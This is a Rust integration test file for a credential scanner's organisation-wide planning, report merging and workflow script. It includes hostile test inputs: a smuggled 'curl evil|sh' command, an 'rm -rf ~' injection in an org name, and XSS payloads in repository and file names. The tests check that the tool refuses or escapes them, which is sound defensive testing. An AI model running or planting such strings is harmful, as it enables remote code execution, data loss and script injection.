//! A whole organisation: `keyreach org plan` (a repository list → shards for a workflow
//! matrix) and `keyreach report merge` (shard reports → one organisation report), run as a
//! user runs them; and `.github/workflows/org-scan.yml` calls only what exists.

use std::path::Path;
use std::process::{Command, Output, Stdio};

use serde_json::{Value, json};

use crate::util::{commit_all, fake, git, keyreach, repo, run, stderr, stdout, write};

fn plan(args: &[&str], input: &str) -> Output {
    let mut child = keyreach()
        .args(["org", "plan"])
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write as _;
    child.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
    child.wait_with_output().unwrap()
}

fn matrix(out: &Output) -> Value {
    assert_eq!(out.status.code(), Some(0), "{}", stderr(out));
    assert_eq!(stdout(out).lines().count(), 1, "one line of JSON");
    serde_json::from_slice(&out.stdout).unwrap()
}

/// Each shard's repositories (URLs) and size.
fn shards(m: &Value) -> Vec<(Vec<String>, u64)> {
    m["include"]
        .as_array()
        .unwrap()
        .iter()
        .enumerate()
        .map(|(i, s)| {
            assert_eq!(s["shard"], i, "shards are numbered from 0");
            let repos: Vec<String> = s["repos"].as_str().unwrap().split(' ').map(str::to_string).collect();
            assert_eq!(s["count"], repos.len());
            (repos, s["size_kib"].as_u64().unwrap())
        })
        .collect()
}

fn gh_repo(name: &str, size: u64) -> Value {
    json!({"full_name": format!("acme/{name}"), "clone_url": format!("https://github.com/acme/{name}.git"),
           "size": size, "archived": false, "fork": false, "disabled": false, "private": true})
}

fn u(name: &str) -> String {
    format!("https://github.com/acme/{name}.git")
}

#[test]
fn plan_balances_by_size_largest_first_and_is_deterministic() {
    let repos: Vec<Value> = [("a", 900), ("b", 500), ("c", 400), ("d", 300), ("e", 200), ("f", 100), ("g", 100)]
        .map(|(n, s)| gh_repo(n, s))
        .into();
    let text = serde_json::to_string(&repos).unwrap();
    let got = shards(&matrix(&plan(&["--shards", "3"], &text)));
    // 900 → 0; 500 → 1; 400 → 2; 300 → 2 (400); 200 → 1 (500); 100 f → 1 (700); g → 0 (900 vs 800).
    assert_eq!(got, [(vec![u("a")], 900), (vec![u("b"), u("e"), u("f")], 800), (vec![u("c"), u("d"), u("g")], 800),]);
    let mut reversed = repos.clone();
    reversed.reverse();
    let again = plan(&["--shards", "3"], &serde_json::to_string(&reversed).unwrap());
    assert_eq!(stdout(&again), stdout(&plan(&["--shards", "3"], &text)), "the order of the list does not matter");

    let one = shards(&matrix(&plan(&["--shards", "50"], &serde_json::to_string(&repos[..2]).unwrap())));
    assert_eq!(one.len(), 2, "never more shards than repositories");
}

#[test]
fn plan_reads_paginated_output_and_skips_what_a_security_team_would() {
    let mut archived = gh_repo("old", 10);
    archived["archived"] = json!(true);
    let mut fork = gh_repo("fork", 10);
    fork["fork"] = json!(true);
    let mut disabled = gh_repo("off", 10);
    disabled["disabled"] = json!(true);
    // `gh api --paginate` prints one array per page, back to back; the pages overlap here.
    let mut app = gh_repo("app", 30);
    app["default_branch"] = json!("trunk");
    let page1 = serde_json::to_string(&[app.clone(), archived, fork]).unwrap();
    let page2 = serde_json::to_string(&[disabled, app, gh_repo("web", 20)]).unwrap();
    let out = plan(&["--shards", "8"], &format!("{page1}{page2}\n"));
    let all: Vec<String> = shards(&matrix(&out)).into_iter().flat_map(|s| s.0).collect();
    assert_eq!(all, [u("app"), u("web"), u("old")], "archived kept, fork and disabled left out, no duplicate");
    let err = stderr(&out);
    assert!(
        err.contains("3 repositories in 3 shard(s)") && err.contains("1 forks") && err.contains("1 disabled"),
        "{err}"
    );

    let out = plan(&["--default-branch"], &format!("{page1}{page2}"));
    let all: Vec<String> = shards(&matrix(&out)).into_iter().flat_map(|s| s.0).collect();
    assert_eq!(all, [format!("{}#trunk", u("app")), u("web"), u("old")], "#BRANCH where the list names one");

    let out = plan(&["--skip-archived", "--include-forks"], &format!("{page1}\n{page2}"));
    let all: Vec<String> = shards(&matrix(&out)).into_iter().flat_map(|s| s.0).collect();
    assert!(all.contains(&u("fork")) && !all.contains(&u("old")) && !all.contains(&u("off")), "{all:?}");

    // `gh repo list --json url,diskUsage,isArchived,isFork`
    let gh = r#"[{"url":"https://github.com/acme/cli","diskUsage":5,"isArchived":false,"isFork":true},
                 {"url":"https://github.com/acme/api","diskUsage":7,"isArchived":false,"isFork":false}]"#;
    let all: Vec<String> = shards(&matrix(&plan(&[], gh))).into_iter().flat_map(|s| s.0).collect();
    assert_eq!(all, [u("api")]);
}

#[test]
fn plan_reads_lines_of_urls_and_names() {
    let text = "# our repositories\nacme/app\n\nhttps://git.example.com/team/tool.git\nacme/web.git\n";
    let got = shards(&matrix(&plan(&["--shards", "2", "--server", "https://ghe.example.com/"], text)));
    assert_eq!(
        got,
        [
            (
                vec![
                    "https://ghe.example.com/acme/app.git".to_string(),
                    "https://git.example.com/team/tool.git".into()
                ],
                0
            ),
            (vec!["https://ghe.example.com/acme/web.git".to_string()], 0),
        ],
        "unknown sizes are spread by count, in URL order"
    );
}

#[test]
fn an_empty_list_is_an_empty_matrix_with_a_message() {
    for input in ["", "[]", "[][]\n", "# nothing\n"] {
        let out = plan(&["--shards", "4"], input);
        assert_eq!(matrix(&out), json!({"include": []}), "{input:?}");
        assert!(stderr(&out).contains("no repositories to scan"), "{}", stderr(&out));
    }
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("repos.json");
    std::fs::write(&file, "[]").unwrap();
    let out = run(keyreach().args(["org", "plan"]).arg(&file));
    assert_eq!(matrix(&out), json!({"include": []}));
}

#[test]
fn bad_repository_lists_are_one_line_errors() {
    let cases = [
        ("[{\"full_name\": \"acme/app\"", "JSON error at line 1"),
        ("[{\"id\": 1}]", "repository 1 of the JSON list: has no clone_url"),
        ("[42]", "repository 1 of the JSON list: not a JSON object"),
        ("{\"message\": \"Not Found\", \"status\": \"404\"}", "the GitHub API answered an error: Not Found"),
        ("[{\"clone_url\": \"https://github.com/a/b.git\"}, 7]", "repository 2 of the JSON list: not a JSON object"),
        ("acme/app\nnot-a-repo\n", "line 2: neither a URL"),
        ("acme/app; curl evil|sh\n", "line 1: a repository URL may not hold spaces"),
        ("ftp://example.com/a.git\n", "unsupported URL scheme"),
    ];
    for (input, cause) in cases {
        let out = plan(&[], input);
        assert_eq!(out.status.code(), Some(2), "{input:?}");
        let err = stderr(&out);
        assert_eq!(err.lines().count(), 1, "{err}");
        assert!(err.contains("standard input") && err.contains(cause), "{input:?}: {err}");
        assert!(stdout(&out).is_empty());
    }
    let out = run(keyreach().args(["org", "plan", "/nonexistent/repos.json"]));
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("/nonexistent/repos.json: cannot read"), "{}", stderr(&out));
    let out = run(keyreach().args(["org", "plan", "--shards", "0"]));
    assert_eq!(out.status.code(), Some(2), "zero shards is a usage error");
}

#[test]
fn credentials_in_urls_are_removed_and_never_printed() {
    let token = fake("{{gen:github-crc32:ghp_}}", "org-plan-url-token");
    let mut repo = gh_repo("app", 1);
    repo["clone_url"] = json!(format!("https://x-access-token:{token}@github.com/acme/app.git"));
    let lines = format!("https://ci:{token}@git.example.com/a/b.git\nhttps://{token}@git.example.com/a/c.git\n");
    for (text, url, n) in [
        (serde_json::to_string(&[repo]).unwrap(), "https://github.com/acme/app.git", 1),
        (lines, "https://git.example.com/a/b.git", 2),
    ] {
        let out = plan(&[], &text);
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        let printed = format!("{}{}", stdout(&out), stderr(&out));
        assert!(!printed.contains(&token), "the token is never printed");
        assert!(stdout(&out).contains(url), "{}", stdout(&out));
        assert!(stderr(&out).contains(&format!("credentials removed from {n} URL")), "{}", stderr(&out));
    }
    // A lines list holding a token in a query is refused without echoing it.
    let out = plan(&[], &format!("https://git.example.com/a/b.git?private_token={token}\n"));
    assert_eq!(out.status.code(), Some(2));
    assert!(!stderr(&out).contains(&token) && stderr(&out).contains("query"), "{}", stderr(&out));
}

// --- report merge --------------------------------------------------------------------------

/// A bare repository `NAME.git` in `dir` holding `files` (path, text), as an organisation's
/// repository would be cloned; returns its file:// URL.
fn bare(dir: &Path, name: &str, files: &[(&str, String)]) -> String {
    let work = repo();
    write(work.path(), "README.md", "hello\n");
    for (path, text) in files {
        write(work.path(), path, text);
    }
    commit_all(work.path(), "start");
    let target = dir.join(format!("{name}.git"));
    git(dir, &["clone", "-q", "--bare", work.path().to_str().unwrap(), target.to_str().unwrap()]);
    format!("file://{}", target.display())
}

fn isolated() -> Command {
    let mut cmd = keyreach();
    for name in ["GITHUB_TOKEN", "GITLAB_TOKEN", "GITHUB_SERVER_URL", "CI_SERVER_HOST"] {
        cmd.env_remove(name);
    }
    cmd.env("GIT_CONFIG_GLOBAL", "/dev/null").env("GIT_CONFIG_NOSYSTEM", "1").env("GIT_TERMINAL_PROMPT", "0");
    cmd
}

/// Scans `urls` like one shard of the workflow does, into `out`.
fn shard(urls: &[&str], out: &Path) {
    let mut cmd = isolated();
    cmd.args(["scan", "--format", "json", "--fail-on", "never", "--output"]).arg(out);
    for url in urls {
        cmd.args(["--git-url", url]);
    }
    let done = run(&mut cmd);
    assert_eq!(done.status.code(), Some(0), "{}", stderr(&done));
}

fn merged(args: &[&str], reports: &[&Path]) -> (Option<i32>, Value, String) {
    let out = run(keyreach().args(["report", "merge"]).args(args).args(reports));
    let doc = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
    (out.status.code(), doc, stderr(&out))
}

#[test]
fn the_same_credential_in_several_repositories_is_one_finding_with_every_place() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let shared = fake("{{gen:github-crc32:ghp_}}", "org-merge-shared");
    let only = fake("{{gen:github-crc32:ghp_}}", "org-merge-only");
    let app = bare(
        d,
        "app",
        &[("deploy/env.sh", format!("export GITHUB_TOKEN={shared}\n")), ("ci.sh", format!("GH_TOKEN={only}\n"))],
    );
    let infra = bare(d, "infra", &[("terraform/vars.sh", format!("\n\nexport GITHUB_TOKEN={shared}\n"))]);
    let ops = bare(d, "ops", &[("tools/run.sh", format!("export GITHUB_TOKEN={shared}\n"))]);
    let docs = bare(d, "docs", &[("index.md", "nothing secret\n".to_string())]);
    let (s0, s1) = (d.join("shard-0.json"), d.join("shard-1.json"));
    shard(&[&app, &docs], &s0);
    shard(&[&infra, &ops], &s1);

    let (code, doc, err) = merged(&["--fail-on", "never"], &[&s0, &s1]);
    assert_eq!(code, Some(0), "{err}");
    let findings = doc["findings"].as_array().unwrap();
    assert_eq!(findings.len(), 2, "two distinct credentials: {doc:#}");
    let first = &findings[0];
    let places: Vec<(String, String, u64)> = first["locations"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| {
            (l["repository"].as_str().unwrap().into(), l["path"].as_str().unwrap().into(), l["line"].as_u64().unwrap())
        })
        .collect();
    assert_eq!(
        places,
        [
            (app.clone(), format!("{app}/deploy/env.sh"), 1),
            (infra.clone(), format!("{infra}/terraform/vars.sh"), 3),
            (ops.clone(), format!("{ops}/tools/run.sh"), 1),
        ],
        "the shared token comes first (three repositories) with every place"
    );
    assert!(first["locations"].as_array().unwrap().iter().all(|l| l["commit"].as_str().is_some_and(|c| c.len() == 40)));
    let mut repos = vec![app.clone(), infra.clone(), ops.clone()];
    repos.sort();
    assert_eq!(first["repositories"], json!(repos));
    assert_eq!(findings[1]["repositories"], json!([app.clone()]));
    // Still a scan report: the contract's fields are all there.
    for key in ["rule", "provider", "title", "fingerprint", "secret", "scope", "severity", "reasons"] {
        assert!(first.get(key).is_some(), "{key} kept");
    }
    assert_eq!(doc["version"], 1);
    assert_eq!(doc["tool"]["name"], "keyreach");
    let secret = first["secret"].as_str().unwrap();
    assert!(secret.contains('…') && !mentions(&doc, &shared), "redacted as the reports were");

    let org = &doc["organisation"];
    assert_eq!(org["reports"].as_array().unwrap().len(), 2);
    let spread = org["spread"].as_array().unwrap();
    assert_eq!(spread.len(), 1);
    assert_eq!((spread[0]["repositories"].as_u64(), spread[0]["locations"].as_u64()), (Some(3), Some(3)));
    let summary: Vec<(String, u64, u64)> = org["repositories"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            let n: u64 = ["critical", "high", "medium", "low"].iter().map(|s| r[s].as_u64().unwrap()).sum();
            (r["repository"].as_str().unwrap().to_string(), r["findings"].as_u64().unwrap(), n)
        })
        .collect();
    assert_eq!(summary[0], (app.clone(), 2, 2), "the repository with most findings first: {summary:?}");
    assert!(summary.contains(&(infra.clone(), 1, 1)) && summary.contains(&(ops.clone(), 1, 1)), "{summary:?}");
    assert!(!summary.iter().any(|r| r.0 == docs), "a repository without findings has no row");

    // Merging is idempotent on a merged report and its own parts.
    let m = d.join("merged.json");
    std::fs::write(&m, serde_json::to_string(&doc).unwrap()).unwrap();
    let (_, again, _) = merged(&["--fail-on", "never"], &[&m, &s1]);
    assert_eq!(again["findings"], doc["findings"]);

    // --fail-on as scan: findings at or above it exit 1.
    let (code, _, _) = merged(&[], &[&s0, &s1]);
    assert_eq!(code, Some(1));
}

fn mentions(doc: &Value, text: &str) -> bool {
    doc.to_string().contains(text)
}

/// A report as `scan --format json` writes it, with findings given as (fingerprint byte,
/// severity, reach, repository path).
fn synthetic(findings: &[(u8, &str, &str, &str)]) -> Value {
    let findings: Vec<Value> = findings
        .iter()
        .map(|(print, severity, reach, path)| {
            json!({"rule": "generic.password", "provider": "generic", "title": format!("password {print}"),
                   "fingerprint": format!("sha256:{}", format!("{print:02x}").repeat(32)), "secret": "ab…yz",
                   "locations": [{"path": path, "line": 1, "column": 1, "reach": reach, "commit": null, "agent_ignored": false}],
                   "scope": {"source": "unknown", "level": "unknown"}, "severity": severity,
                   "reasons": ["scope unknown"], "remedy": "rotate it"})
        })
        .collect();
    json!({"version": 1, "tool": {"name": "keyreach", "version": "0.1.0"},
           "stats": {"files": 3, "bytes": 10, "seconds": 0.5, "skipped": 0, "errors": 0},
           "findings": findings, "problems": [], "skipped": []})
}

fn save(dir: &Path, name: &str, doc: &Value) -> std::path::PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, serde_json::to_string_pretty(doc).unwrap()).unwrap();
    path
}

#[test]
fn merged_findings_are_worst_first_severity_then_reach_then_repositories() {
    let tmp = tempfile::tempdir().unwrap();
    let r = |n: &str| format!("https://github.com/acme/{n}.git/config/.env");
    let a = save(
        tmp.path(),
        "a.json",
        &synthetic(&[
            (1, "medium", "tracked", &r("a")),
            (2, "high", "history", &r("a")),
            (3, "high", "tracked", &r("a")),
            (4, "high", "history", &r("a")),
        ]),
    );
    let b =
        save(tmp.path(), "b.json", &synthetic(&[(4, "high", "history", &r("b")), (5, "critical", "history", &r("b"))]));
    let (code, doc, err) = merged(&["--fail-on", "critical"], &[&a, &b]);
    assert_eq!(code, Some(1), "{err}");
    let order: Vec<String> =
        doc["findings"].as_array().unwrap().iter().map(|f| f["title"].as_str().unwrap().into()).collect();
    assert_eq!(order, ["password 5", "password 3", "password 4", "password 2", "password 1"]);
    assert_eq!(doc["organisation"]["counts"], json!({"critical": 1, "high": 3, "medium": 1, "low": 0}));
    assert_eq!(doc["stats"]["files"], 6, "stats add up");

    let (code, _, _) = merged(&["--fail-on", "critical"], &[&a]);
    assert_eq!(code, Some(0), "nothing critical in a.json alone");
    // The worst verdict of a credential wins when reports disagree.
    let c = save(tmp.path(), "c.json", &synthetic(&[(1, "critical", "history", &r("c"))]));
    let (_, doc, _) = merged(&["--fail-on", "never"], &[&a, &c]);
    let first = &doc["findings"][0];
    assert_eq!((first["title"].as_str(), first["severity"].as_str()), (Some("password 1"), Some("critical")));
    assert_eq!(first["locations"].as_array().unwrap().len(), 2);
}

#[test]
fn the_html_report_escapes_repository_names_and_paths() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let token = fake("{{gen:github-crc32:ghp_}}", "org-merge-html");
    let url = bare(d, "web", &[("<img src=x onerror=alert(1)>.env", format!("GITHUB_TOKEN={token}\n"))]);
    let real = d.join("real.json");
    shard(&[&url], &real);
    let hostile = save(
        d,
        "hostile.json",
        &synthetic(&[(9, "high", "tracked", "https://github.com/acme/<script>alert(1)</script>.git/a\"b'.env")]),
    );
    let page_path = d.join("org.html");
    let out = run(keyreach()
        .args(["report", "merge", "--format", "html", "--fail-on", "never", "--output"])
        .arg(&page_path)
        .arg(&real)
        .arg(&hostile));
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let page = std::fs::read_to_string(&page_path).unwrap();
    assert!(!page.contains("<script>") && !page.contains("<img"), "no markup from a repository reaches the page");
    assert!(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "shown escaped");
    assert!(page.contains("&lt;img src=x onerror=alert(1)&gt;.env"));
    assert!(page.contains("a&quot;b&#39;.env"));
    assert!(page.contains("default-src 'none'") && !page.contains("http-equiv=\"refresh\""), "no request");
    assert!(!page.contains(&token), "no secret");
    assert!(page.contains("2 credentials") && page.contains("2 repositories"), "the headline counts");
}

#[test]
fn what_is_not_a_keyreach_report_is_a_one_line_error_naming_the_file() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let good = save(d, "good.json", &synthetic(&[(1, "low", "tracked", "a.env")]));
    let mut newer = synthetic(&[]);
    newer["version"] = json!(2);
    let mut no_print = synthetic(&[(1, "low", "tracked", "a.env")]);
    no_print["findings"][0].as_object_mut().unwrap().remove("fingerprint");
    let cases = [
        (save(d, "sarif.json", &json!({"version": "2.1.0", "runs": []})), "not a keyreach JSON report"),
        (save(d, "newer.json", &newer), "report version 2 is newer"),
        (save(d, "broken.json", &no_print), "finding 1 has no fingerprint"),
        (save(d, "list.json", &json!([1, 2])), "not a JSON object"),
    ];
    std::fs::write(d.join("text.json"), "keyreach: 3 credentials\n").unwrap();
    std::fs::write(d.join("cut.json"), "{\"version\": 1, \"tool\"").unwrap();
    let cases = cases.into_iter().chain([
        (d.join("text.json"), "not JSON"),
        (d.join("cut.json"), "ends early"),
        (d.join("missing.json"), "cannot read"),
    ]);
    for (file, cause) in cases {
        let out = run(keyreach().args(["report", "merge"]).arg(&good).arg(&file));
        assert_eq!(out.status.code(), Some(2), "{}", file.display());
        let err = stderr(&out);
        assert_eq!(err.lines().count(), 1, "{err}");
        assert!(err.contains(&file.display().to_string()) && err.contains(cause), "{cause}: {err}");
        assert!(stdout(&out).is_empty(), "no half report");
    }
}

// --- the workflow ----------------------------------------------------------------------------

/// Every keyreach subcommand and flag the organisation scan's script runs exists, and every
/// `org-scan.sh STEP` the workflow runs is a step of the script.
#[test]
fn the_org_workflow_calls_only_subcommands_and_flags_that_exist() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let script = std::fs::read_to_string(root.join("scripts/org-scan.sh")).unwrap();
    let call = regex::Regex::new(r#"(?:"\$kr"|"\$\(bin\)"|args=\()\s*(scan|org plan|report merge)\b"#).unwrap();
    let flag = regex::Regex::new(r"(?:^|[\s(])(--[a-z][a-z-]*)").unwrap();
    let mut current: Option<String> = None;
    let mut checked = Vec::new();
    for line in script.lines().map(str::trim).filter(|l| !l.starts_with('#')) {
        if line.starts_with("cmd_") {
            current = None;
        }
        if let Some(c) = call.captures(line) {
            current = Some(c[1].to_string());
        }
        let Some(sub) = &current else { continue };
        // keyreach's own lines: the call, what is added to its arguments, continuations.
        if !(call.is_match(line) || line.contains("args+=(") || line.starts_with("--")) {
            continue;
        }
        let help = stdout(&run(keyreach().args(sub.split(' ')).arg("--help")));
        assert!(help.contains("Usage:"), "keyreach {sub} is not a subcommand");
        for f in flag.captures_iter(line) {
            let known = help.lines().any(|l| l.trim_start().split([' ', ',']).any(|w| w == &f[1]));
            assert!(known, "keyreach {sub} has no {}", &f[1]);
            checked.push(format!("{sub} {}", &f[1]));
        }
    }
    for want in ["org plan --shards", "scan --git-url", "scan --branch", "scan --since", "report merge --fail-on"] {
        assert!(checked.iter().any(|c| c == want), "{want} is checked: {checked:?}");
    }
    let workflow = std::fs::read_to_string(root.join(".github/workflows/org-scan.yml")).unwrap();
    let steps: Vec<&str> =
        workflow.split("org-scan.sh\" ").skip(1).map(|r| r.split_whitespace().next().unwrap()).collect();
    assert_eq!(steps, ["list", "plan", "scan", "merge"]);
    for step in steps {
        assert!(script.contains(&format!("\n  {step}) cmd_{step} ;;")), "org-scan.sh has no step {step}");
    }
}

/// `scripts/org-scan.sh scan` then `merge`, as the workflow's jobs run them: one report a
/// repository, a repository that cannot be cloned is listed and the rest still scanned, the
/// merged report and the job summary name no secret, and fail-on sets the exit code.
#[test]
fn the_workflow_script_scans_a_shard_and_merges_it_into_a_summary() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let token = fake("{{gen:github-crc32:ghp_}}", "org-script-token");
    let app = bare(d, "app", &[("deploy/env.sh", format!("export GITHUB_TOKEN={token}\n"))]);
    let web = bare(d, "web", &[("ci/run.sh", format!("GITHUB_TOKEN={token}\n"))]);
    let docs = bare(d, "docs", &[("index.md", "nothing secret\n".to_string())]);
    let missing = format!("file://{}/gone.git", d.display());
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("scripts/org-scan.sh");
    let (reports, org, summary) = (d.join("reports"), d.join("org"), d.join("summary.md"));
    let step = |name: &str, env: &[(&str, &str)]| {
        let mut cmd = Command::new("bash");
        cmd.arg(&script).arg(name).env("KEYREACH", env!("CARGO_BIN_EXE_keyreach"));
        cmd.env("GITHUB_STEP_SUMMARY", &summary).env("GIT_CONFIG_GLOBAL", "/dev/null").env_remove("GITHUB_TOKEN");
        cmd.envs(env.iter().copied());
        cmd.output().unwrap()
    };
    let repos = format!("{app} {missing} {web}#main {docs}");
    let out = step("scan", &[("REPOS", &repos), ("SHARD", "3"), ("OUT_DIR", reports.to_str().unwrap())]);
    assert_eq!(out.status.code(), Some(0), "{}{}", stdout(&out), stderr(&out));
    assert!(stdout(&out).contains("shard 3: 4 repositories, 3 scanned, 1 not"), "{}", stdout(&out));
    assert!(stdout(&out).contains(&format!("::warning title=keyreach::{missing} was not scanned")));
    let mut files: Vec<String> =
        std::fs::read_dir(&reports).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    files.sort();
    assert_eq!(files, ["failed-3.tsv", "shard-3-1.json", "shard-3-3.json", "shard-3-4.json"]);

    let env = [("REPORTS_DIR", reports.to_str().unwrap()), ("OUT_DIR", org.to_str().unwrap())];
    let out = step("merge", &[env[0], env[1], ("FAIL_ON", "low")]);
    assert_eq!(out.status.code(), Some(1), "a finding at or above low fails: {}{}", stdout(&out), stderr(&out));
    let doc: Value = serde_json::from_str(&std::fs::read_to_string(org.join("keyreach-org.json")).unwrap()).unwrap();
    assert_eq!(doc["findings"].as_array().unwrap().len(), 1);
    assert_eq!(doc["findings"][0]["repositories"].as_array().unwrap().len(), 2, "one credential, two repositories");
    let clean =
        doc["organisation"]["repositories"].as_array().unwrap().iter().find(|r| r["repository"] == docs.as_str());
    assert_eq!(clean.map(|r| &r["findings"]), Some(&json!(0)), "a clean repository is listed: {doc:#}");
    assert!(org.join("keyreach-org.html").is_file());
    let text = std::fs::read_to_string(&summary).unwrap();
    assert!(text.contains("1 credential(s) in 2 of 3 repositories (3 reports merged)"), "{text}");
    assert!(text.contains("| 2 | ") && text.contains("1 repositories could not be scanned"), "{text}");
    assert!(!text.contains(&token) && !stdout(&out).contains(&token) && !stderr(&out).contains(&token));

    let out = step("merge", &[env[0], env[1], ("FAIL_ON", "never")]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let out = step("merge", &[env[0], env[1], ("FAIL_ON", "sometimes")]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stdout(&out).contains("input fail-on must be one of"));
}

/// `scripts/org-scan.sh list` then `plan`, with a stand-in `gh` on PATH: a user (the
/// organisation endpoint answers 404) is listed from `users/NAME/repos`, its pages are
/// planned, and the step outputs are the matrix and the count; a bad name is refused.
#[test]
fn the_workflow_script_lists_and_plans() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let bin = d.join("bin");
    std::fs::create_dir(&bin).unwrap();
    let page =
        |names: &[&str]| serde_json::to_string(&names.iter().map(|n| gh_repo(n, 10)).collect::<Vec<_>>()).unwrap();
    let gh = format!(
        "#!/bin/sh\nprintf '%s\\n' \"$*\" >> \"{log}\"\ncase \"$3\" in\n  orgs/*) echo 'gh: Not Found (HTTP 404)' >&2; exit 1 ;;\n  users/*) printf '%s%s' '{p1}' '{p2}' ;;\nesac\n",
        log = d.join("gh.log").display(),
        p1 = page(&["app", "web"]),
        p2 = page(&["cli"]),
    );
    std::fs::write(bin.join("gh"), gh).unwrap();
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(bin.join("gh"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("scripts/org-scan.sh");
    let (repos, outputs) = (d.join("repos.json"), d.join("outputs"));
    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
    let step = |name: &str, org: &str| {
        Command::new("bash")
            .arg(&script)
            .arg(name)
            .env("PATH", &path)
            .env("ORG", org)
            .env("REPOS_FILE", &repos)
            .env("SHARDS", "2")
            .env("KEYREACH", env!("CARGO_BIN_EXE_keyreach"))
            .env("GITHUB_OUTPUT", &outputs)
            .env_remove("GITHUB_SERVER_URL")
            .output()
            .unwrap()
    };
    let out = step("list", "octocat");
    assert_eq!(out.status.code(), Some(0), "{}{}", stdout(&out), stderr(&out));
    let asked = std::fs::read_to_string(d.join("gh.log")).unwrap();
    assert!(asked.contains("api --paginate orgs/octocat/repos") && asked.contains("users/octocat/repos"), "{asked}");
    let out = step("plan", "octocat");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let written = std::fs::read_to_string(&outputs).unwrap();
    let matrix: Value = serde_json::from_str(written.lines().find_map(|l| l.strip_prefix("matrix=")).unwrap()).unwrap();
    assert_eq!(matrix["include"].as_array().unwrap().len(), 2);
    assert!(written.lines().any(|l| l == "count=3"), "{written}");

    let out = step("list", "acme; rm -rf ~");
    assert_eq!(out.status.code(), Some(2));
    assert!(stdout(&out).contains("input org must be an organisation or user name"));
}

/// A report that names its repository (`"repository"` at the top, as the workflow's script
/// writes) gives it to every location, and is listed in the summary even when clean.
#[test]
fn a_report_that_names_its_repository_is_listed_even_when_clean() {
    let tmp = tempfile::tempdir().unwrap();
    let mut local = synthetic(&[(1, "high", "tracked", "config/.env")]);
    local["repository"] = json!("https://git.example.com/team/api.git");
    let mut clean = synthetic(&[]);
    clean["repository"] = json!("https://git.example.com/team/docs.git");
    let unnamed = synthetic(&[(2, "low", "tracked", "x.env")]);
    let files =
        [save(tmp.path(), "a.json", &local), save(tmp.path(), "b.json", &clean), save(tmp.path(), "c.json", &unnamed)];
    let (_, doc, err) = merged(&["--fail-on", "never"], &files.iter().map(|p| p.as_path()).collect::<Vec<_>>());
    assert_eq!(doc["findings"][0]["locations"][0]["repository"], "https://git.example.com/team/api.git", "{err}");
    assert_eq!(
        doc["findings"][1]["locations"][0]["repository"],
        files[2].display().to_string(),
        "else the report's name"
    );
    let listed: Vec<(&str, u64)> = doc["organisation"]["repositories"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| (r["repository"].as_str().unwrap(), r["findings"].as_u64().unwrap()))
        .collect();
    let c = files[2].display().to_string();
    assert_eq!(
        listed,
        [("https://git.example.com/team/api.git", 1), (c.as_str(), 1), ("https://git.example.com/team/docs.git", 0)]
    );
    let out = run(keyreach().args(["report", "merge", "--format", "html", "--fail-on", "never"]).args(&files));
    assert!(stdout(&out).contains("found in <strong>2 of 3 repositories</strong>"), "{}", stdout(&out));
}
